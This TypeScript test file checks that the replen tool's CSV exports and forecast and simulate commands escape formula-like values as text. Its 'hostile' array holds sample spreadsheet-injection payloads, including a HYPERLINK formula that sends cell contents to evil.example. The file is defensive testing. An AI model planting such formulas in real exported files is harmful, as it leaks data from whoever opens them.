import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { insertItem, insertLocation, insertRecommendation, insertRun, insertSupplier, insertSupplierItem, openTestApp, type TestApp } from '../../helpers/catalogue';
import { testEngines } from '../../helpers/database';

const root = resolve(__dirname, '../../..');
/** Values a spreadsheet would run as formulas, and how every CSV replen writes must show them. */
const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-3+4', '@SUM(A1:A9)', '\tTAB'];
const shown = (value: string) => `'${value}`;

function runCli(args: string[]): Promise<{ code: number; stderr: string }> {
  return new Promise((done) => {
    execFile('npx', ['tsx', 'src/cli/index.ts', ...args], { cwd: root }, (error, _stdout, stderr) => done({ code: error ? Number(error.code) : 0, stderr }));
  });
}

/** Item 6 of issue 15: formula-like text is escaped in every CSV replen writes. */
describe.each(testEngines())('CSV that replen writes, on %s', (engine) => {
  let testApp: TestApp;
  beforeAll(async () => {
    testApp = await openTestApp(engine);
  });
  afterAll(() => testApp.testDb.drop());

  it('6. the suggested-order export shows formula-like SKUs, supplier names and supplier SKUs as text', async () => {
    const { db } = testApp;
    const runId = await insertRun(db);
    const supplierId = await insertSupplier(db, { name: hostile[1] });
    const locationId = await insertLocation(db, hostile[4]);
    const itemId = await insertItem(db, { sku: hostile[0] });
    await insertSupplierItem(db, { supplierId, itemId });
    await db.raw(`update supplier_items set supplier_sku = ? where item_id = ?`, [hostile[2], itemId]);
    const recommendationId = await insertRecommendation(db, { runId, itemId, locationId, supplierId });
    const buyer = `Bearer ${testApp.keys.buyer}`;
    const current = await request(testApp.app).get(`/recommendations/${recommendationId}`).set('Authorization', buyer).expect(200);
    await request(testApp.app).patch(`/recommendations/${recommendationId}`).set('Authorization', buyer).set('If-Match', current.headers.etag).send({ action: 'approve' }).expect(200);

    const pulled = await request(testApp.app).get('/purchase-orders/suggested').set('Authorization', `Bearer ${testApp.keys.erp}`).set('Accept', 'text/csv').expect(200);
    const [row] = parse(pulled.text, { columns: true }) as Array<Record<string, string>>;
    expect({ sku: row.sku, supplier: row.supplier_name, supplierSku: row.supplier_sku, location: row.location_code }).toEqual({
      sku: shown(hostile[0]),
      supplier: shown(hostile[1]),
      supplierSku: shown(hostile[2]),
      location: shown(hostile[4]),
    });
    // Numbers are numbers: a negative one is never prefixed.
    expect(row.quantity).toBe('12');
  });
});

describe('CSV files the commands write', () => {
  // The commands trim the cells they read, so a leading tab cannot reach their output.
  const commandIds = hostile.slice(0, 4);
  let folder: string;
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'replen-csv-output-'));
    const rows = commandIds.flatMap((id) => Array.from({ length: 30 }, (_, period) => `"${id.replace(/"/g, '""')}",${period + 1},${5 + (period % 3)}`));
    writeFileSync(join(folder, 'series.csv'), ['series_id,period,value', ...rows].join('\n') + '\n');
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it('6. replen forecast and replen simulate show formula-like series ids as text', async () => {
    const input = join(folder, 'series.csv');
    const forecast = await runCli(['forecast', '--input', input, '--output', join(folder, 'forecast.csv'), '--horizon', '2', '--season-length', '1']);
    expect(forecast).toEqual({ code: 0, stderr: '' });
    const forecastRows = parse(readFileSync(join(folder, 'forecast.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
    expect([...new Set(forecastRows.map((row) => row.series_id))]).toEqual(commandIds.map(shown));

    const simulate = await runCli(['simulate', '--input', input, '--output', join(folder, 'simulate.csv'), '--lead-time', '1', '--review-period', '1', '--service-level', '0.9']);
    expect(simulate).toEqual({ code: 0, stderr: '' });
    const simulateRows = parse(readFileSync(join(folder, 'simulate.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
    expect(simulateRows.map((row) => row.series_id)).toEqual(commandIds.map(shown));
  }, 120_000);
});
